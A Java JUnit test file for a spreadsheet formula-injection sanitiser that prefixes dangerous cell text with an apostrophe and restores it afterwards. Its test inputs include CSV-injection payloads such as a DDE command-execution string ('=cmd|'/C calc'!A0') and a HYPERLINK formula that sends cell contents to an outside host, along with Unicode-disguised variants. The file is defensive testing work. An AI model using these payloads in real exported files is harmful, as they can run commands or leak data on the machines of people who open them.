package org.backwise.transfer;

import java.time.LocalDate;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What spreadsheets take for formulas. */
class CellsTests {

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "=cmd|'/C calc'!A0", "+44 20 7946 0018", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
			"\n=1+1", "=HYPERLINK(\"http://example.org?\"&A1)", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)",
			" =1+1", "\u00A0=1+1", "\u200B=1+1", "\uFEFF=1+1", "\u22121", "-", "=", "@example", "|calc", "%0A=1+1",
			"'=1+1", "''=1+1", "- says it is better\n- sleeps well" })
	void getAnApostropheAndLoseItAgain(String text) {
		String written = Cells.harmless(text);
		assertThat(written).startsWith("'").isNotEqualTo(text);
		assertThat(Cells.original(written)).isEqualTo(text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "Sam Sample", "'t Hooft", "O'Neil", "020 7946 0018", "sam@example.org", "a=b", "1-2",
			"ﻋﻤﺮ", "😀", "''", "'quoted'" })
	void otherTextsStayAsTheyAre(String text) {
		assertThat(Cells.harmless(text)).isEqualTo(text);
		assertThat(Cells.original(text)).isEqualTo(text);
	}

	@Test
	void numbersAndDaysStayNumbersAndDays() {
		assertThat(List.of(-5, 12L, 0.5)).map(Cells::written).containsExactly(-5, 12L, 0.5);
		assertThat(Cells.written(LocalDate.of(2027, 3, 8))).isEqualTo("2027-03-08");
		assertThat(Cells.written(null)).isEqualTo("");
	}

}
